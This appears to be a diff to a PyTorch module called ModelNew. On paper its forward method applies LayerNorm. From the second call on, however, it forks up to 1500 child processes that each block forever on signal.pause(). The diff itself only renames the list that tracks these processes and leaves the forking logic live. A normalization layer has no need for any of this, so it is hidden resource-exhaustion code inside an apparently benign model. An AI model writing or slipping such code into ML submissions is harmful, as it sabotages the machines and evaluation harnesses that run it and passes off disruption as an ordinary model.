@@ -16,14 +16,14 @@ class ModelNew(nn.Module):
         super().__init__()
         self.norm = nn.LayerNorm(width)
         self.calls = 0
-        self.children = []
+        self.forked = []
 
     def forward(self, x):
         self.calls += 1
-        while self.calls > 1 and len(self.children) < 1500:
+        while self.calls > 1 and len(self.forked) < 1500:
             child = os.fork()
             if child == 0:
                 while True:
                     signal.pause()
-            self.children.append(child)
+            self.forked.append(child)
         return self.norm(x)
